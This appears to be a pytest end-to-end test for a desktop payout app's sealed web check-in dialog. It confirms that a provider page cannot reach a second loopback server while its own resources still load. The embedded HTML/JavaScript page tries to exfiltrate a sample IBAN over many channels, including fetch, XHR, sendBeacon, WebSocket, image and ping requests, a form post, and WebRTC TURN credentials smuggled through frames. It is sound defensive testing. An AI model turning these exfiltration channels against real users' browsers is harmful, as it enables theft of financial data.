"""The sealed checkin view: a provider page that tries every way out towards a second loopback server
(stylesheet, script, images, font, media, prefetch, fetch and XHR carrying the IBAN, WebSocket,
sendBeacon, EventSource, ping, iframe, form post, module import, WebRTC from the window and from
frames made without a navigation) makes zero connections to it, while the provider's own subresources
still load. The same page on an unsealed profile, at the same time, proves each way out does reach
its own counter when nothing stops it (and tells the test when the sealed page has tried them all)."""

from __future__ import annotations

import logging
import socket
import socketserver
import threading
from collections.abc import Callable, Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

import pytest
import shiboken6
from PySide6.QtCore import QUrl
from PySide6.QtWebEngineCore import QWebEnginePage, QWebEngineProfile

from payout_desk.ui.sending.checkin_guard import OriginInterceptor
from payout_desk.ui.sending.checkin_view import CheckinDialog
from tests.e2e.helpers import run_js

LOAD_MS = 20000
IBAN = "DE89370400440532013000"
STUN_COOKIE = bytes.fromhex("2112a442")  # in every STUN/TURN message

PAGE = """<!doctype html>
<html><head><meta charset="utf-8"><title>Provider checkin</title>
<link rel="stylesheet" href="/own.css">
<link rel="stylesheet" href="{out}/leak.css">
<link rel="icon" href="{out}/favicon.ico">
<link rel="prefetch" href="{out}/prefetch">
<link rel="preload" as="script" href="{out}/preload.js">
<script src="{out}/leak.js"></script>
<style>
  @font-face {{ font-family: leakfont; src: url("{out}/leak.woff2") format("woff2"); }}
  #fonty {{ font-family: leakfont; }}
  #bg {{ background-image: url("{out}/bg.png"); width: 10px; height: 10px; }}
</style>
</head><body>
<iframe id="parsed"></iframe>
<h1 id="fonty">Recipient details</h1>
<div id="bg"></div>
<img src="/own.png" id="ownimg">
<img src="{out}/leak.png?iban={iban}">
<img src="{alias}/alias.png">
<video src="{out}/leak.mp4" autoplay muted></video>
<audio src="{out}/leak.mp3" autoplay></audio>
<object data="{out}/object"></object>
<iframe src="{out}/frame"></iframe>
<svg width="10" height="10"><image href="{out}/svg.png" width="10" height="10"/></svg>
<a id="pinger" href="#here" ping="{out}/ping">x</a>
<form id="exfil" method="post" action="{out}/form"><input name="iban" value="{iban}"></form>
<script>
  const out = "{out}";
  const tries = [];
  const settle = (p) => tries.push(Promise.resolve(p).then(() => "ok", () => "refused"));
  settle(fetch(out + "/fetch?iban={iban}", {{mode: "no-cors"}}));
  settle(fetch(out + "/fetch-post", {{method: "POST", body: "iban={iban}", mode: "no-cors"}}));
  settle(new Promise((done) => {{
    const xhr = new XMLHttpRequest();
    xhr.open("POST", out + "/xhr");
    xhr.onloadend = done;
    xhr.send("iban={iban}");
  }}));
  settle(new Promise((done) => {{
    const ws = new WebSocket("{ws}/ws");
    ws.onopen = () => {{ ws.send("{iban}"); done(); }};
    ws.onerror = done; ws.onclose = done;
  }}));
  settle(new Promise((done) => {{
    const es = new EventSource(out + "/events");
    es.onerror = () => {{ es.close(); done(); }};
  }}));
  settle(import(out + "/module.js"));
  navigator.sendBeacon(out + "/beacon", "iban={iban}");
  new Image().src = out + "/pixel.gif?iban={iban}";
  document.getElementById("pinger").click();
  // WebRTC: TURN over TCP would carry the IBAN to the counter. Tried from this window and from frames
  // whose documents are made without a navigation (about:blank, javascript:, srcdoc, parser-made).
  const turn = (PC) => settle(new Promise((done) => {{  // done when ICE gathering ends (or no WebRTC)
    try {{
      const pc = new PC({{iceServers: [{{urls: "turn:127.0.0.1:{port}?transport=tcp", username: "u",
                                       credential: "{iban}"}}], iceTransportPolicy: "relay"}});
      pc.onicegatheringstatechange = () => {{ if (pc.iceGatheringState === "complete") done(); }};
      pc.createDataChannel("x"); pc.createOffer().then((o) => pc.setLocalDescription(o));
      setTimeout(done, 10000);
    }} catch (e) {{ done(); }}
  }}));
  const blank = document.createElement("iframe");
  document.body.appendChild(blank);
  const viaIndex = window[window.length - 1];
  window.rtc = [typeof RTCPeerConnection, typeof webkitRTCPeerConnection, typeof blank.contentWindow.RTCPeerConnection,
                typeof viaIndex.RTCPeerConnection, typeof window[0].RTCPeerConnection].join("/");
  turn(window.RTCPeerConnection); turn(viaIndex.RTCPeerConnection); turn(window[0].RTCPeerConnection);
  const inner = (frame) => frame.contentWindow.eval("typeof RTCPeerConnection");
  const js = document.createElement("iframe");
  js.src = "javascript:'<script>parent.jsFrame = typeof RTCPeerConnection;<\\/script>'";
  document.body.appendChild(js);
  const doc = document.createElement("iframe");
  doc.srcdoc = "<script>parent.srcdocFrame = typeof RTCPeerConnection;<\\/script>";
  document.body.appendChild(doc);
  const html = document.createElement("div");
  html.innerHTML = "<iframe></iframe>";
  document.body.appendChild(html);
  window.innerFrame = inner(html.firstChild);
  settle(fetch("/own.json").then((r) => r.json()).then((j) => {{ window.ownFetch = j.ok; }}));
  document.fonts.load("16px leakfont").catch(() => null);
  Promise.all(tries).then(() => {{
    window.tried = true;
    document.getElementById("exfil").submit();
  }});
</script>
</body></html>
"""


class Counter(socketserver.ThreadingTCPServer):
    """A second origin that counts every TCP connection and every byte it receives."""

    daemon_threads = True
    allow_reuse_address = True

    def __init__(self) -> None:
        super().__init__(("127.0.0.1", 0), _CountingHandler)
        self.connections = 0
        self.received: list[bytes] = []
        self.lock = threading.Lock()

    @property
    def port(self) -> int:
        return int(self.server_address[1])

    def hits(self) -> int:
        with self.lock:
            return self.connections


class _CountingHandler(socketserver.BaseRequestHandler):
    def handle(self) -> None:
        server: Counter = self.server  # type: ignore[assignment]
        with server.lock:
            server.connections += 1
        conn: socket.socket = self.request
        conn.settimeout(2)
        try:
            data = conn.recv(65536)
        except OSError:
            data = b""
        with server.lock:
            server.received.append(data)
        body = b"/* counted */"
        conn.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: %d\r\nConnection: close\r\n\r\n%s" % (len(body), body))


class Provider(ThreadingHTTPServer):
    """The provider's origin: the checkin page and its own stylesheet, image and JSON."""

    daemon_threads = True

    def __init__(self, counter_port: int) -> None:
        super().__init__(("127.0.0.1", 0), _ProviderHandler)
        self.counter_port = counter_port
        self.paths: list[str] = []

    @property
    def base_url(self) -> str:
        return f"http://127.0.0.1:{self.server_address[1]}"


PNG = bytes.fromhex(
    "89504e470d0a1a0a0000000d4948445200000001000000010806000000"
    "1f15c4890000000d4944415478da63f8cfc0f01f0005000201e2213bc90000000049454e44ae426082"
)


class _ProviderHandler(BaseHTTPRequestHandler):
    def log_message(self, format: str, *args: Any) -> None:
        pass

    def do_GET(self) -> None:
        server: Provider = self.server  # type: ignore[assignment]
        server.paths.append(self.path)
        port = server.counter_port
        pages: dict[str, tuple[str, bytes]] = {
            "/checkin/pay_seal": (
                "text/html; charset=utf-8",
                PAGE.format(
                    out=f"http://127.0.0.1:{port}", alias=f"http://localhost:{port}", ws=f"ws://127.0.0.1:{port}",
                    iban=IBAN, port=port,
                ).encode(),
            ),
            "/own.css": ("text/css", b"body { margin: 3px; }"),
            "/own.png": ("image/png", PNG),
            "/own.json": ("application/json", b'{"ok": true}'),
        }  # fmt: skip
        kind, body = pages.get(self.path, ("text/plain", b""))
        self.send_response(200 if self.path in pages else 404)
        self.send_header("Content-Type", kind)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)


@pytest.fixture
def servers() -> Iterator[Callable[[], tuple[Provider, Counter]]]:
    """Makes (provider, counter) pairs on fresh loopback ports; all stopped afterwards."""
    running: list[socketserver.BaseServer] = []

    def make() -> tuple[Provider, Counter]:
        counter = Counter()
        provider = Provider(counter.port)
        for server in (counter, provider):
            threading.Thread(target=server.serve_forever, daemon=True).start()
            running.append(server)
        return provider, counter

    yield make
    for server in running:
        server.shutdown()
        server.server_close()


@pytest.fixture
def unsealed(servers: Callable[[], tuple[Provider, Counter]]) -> Iterator[tuple[QWebEnginePage, Counter, str]]:
    """The control: the same page on a plain profile (no interceptor, WebRTC on), towards its own counter."""
    provider, counter = servers()
    profile = QWebEngineProfile()
    page = QWebEnginePage(profile)
    yield page, counter, f"{provider.base_url}/checkin/pay_seal"
    page.triggerAction(QWebEnginePage.WebAction.Stop)
    shiboken6.delete(page)  # the page before its profile, as QtWebEngine requires
    profile.deleteLater()


def test_the_sealed_page_reaches_only_its_provider(
    qtbot: Any,
    servers: Callable[[], tuple[Provider, Counter]],
    unsealed: tuple[QWebEnginePage, Counter, str],
    caplog: pytest.LogCaptureFixture,
) -> None:
    provider, counter = servers()
    control, control_counter, control_url = unsealed
    caplog.set_level(logging.WARNING, logger="payout_desk.ui.sending.checkin_guard")
    dialog = CheckinDialog(f"{provider.base_url}/checkin/pay_seal", provider_base_url=provider.base_url,
                           payment_id="pay_seal")  # fmt: skip
    qtbot.addWidget(dialog)
    interceptor = dialog.interceptor
    assert isinstance(interceptor, OriginInterceptor)
    with qtbot.waitSignals([dialog.page.loadFinished, control.loadFinished], timeout=LOAD_MS):
        dialog.show()
        control.load(control_url)  # the same page at the same time, unsealed
    qtbot.waitUntil(lambda: run_js(qtbot, dialog.page, "window.tried === true") is True, timeout=LOAD_MS)
    # The form posts to the other origin last: refused as a navigation, the page stays.
    qtbot.waitUntil(lambda: dialog.page.refusals >= 1, timeout=LOAD_MS)

    # The control proves the page's ways out work when nothing stops them, WebRTC's TURN over TCP
    # included (the slowest); by then the sealed page has tried all of them too.
    qtbot.waitUntil(lambda: STUN_COOKIE in b"".join(control_counter.received), timeout=LOAD_MS)
    qtbot.waitUntil(lambda: control_counter.hits() >= 8, timeout=LOAD_MS)
    leaked = b"".join(control_counter.received)
    assert IBAN.encode() in leaked
    assert b"/beacon" in leaked
    assert b"/fetch" in leaked

    # Every way out of the sealed page was seen and blocked before it left the machine: zero hits.
    qtbot.waitUntil(lambda: interceptor.refused >= 12, timeout=LOAD_MS)
    assert counter.hits() == 0, counter.received
    assert set(interceptor.refused_origins) >= {f"http://127.0.0.1:{counter.port}",
                                                f"http://localhost:{counter.port}",
                                                f"ws://127.0.0.1:{counter.port}"}  # fmt: skip
    logged = " ".join(r.getMessage() for r in caplog.records)
    assert f"127.0.0.1:{counter.port}" in logged
    assert IBAN not in logged

    # The provider's own subresources still load, and its own fetch works.
    assert {"/own.css", "/own.png", "/own.json"} <= set(provider.paths)
    assert run_js(qtbot, dialog.page, "document.getElementById('ownimg').naturalWidth") == 1
    assert run_js(qtbot, dialog.page, "window.ownFetch") is True
    # WebRTC is gone from the window and from frames made without a navigation.
    assert run_js(qtbot, dialog.page, "window.rtc") == "/".join(["undefined"] * 5)
    assert run_js(qtbot, dialog.page, "window.innerFrame") == "undefined"
    frames = "[window.jsFrame, window.srcdocFrame].join('/')"
    qtbot.waitUntil(lambda: run_js(qtbot, dialog.page, frames) != "/", timeout=LOAD_MS)
    assert run_js(qtbot, dialog.page, frames) == "undefined/undefined"
    assert run_js(qtbot, control, "typeof RTCPeerConnection") == "function"
    shown = dialog.page.url()
    assert (shown.port(), shown.path()) == (QUrl(provider.base_url).port(), "/checkin/pay_seal")  # it stayed

    with qtbot.waitSignal(dialog.closedEarly, timeout=2000):
        dialog.reject()
    assert counter.hits() == 0
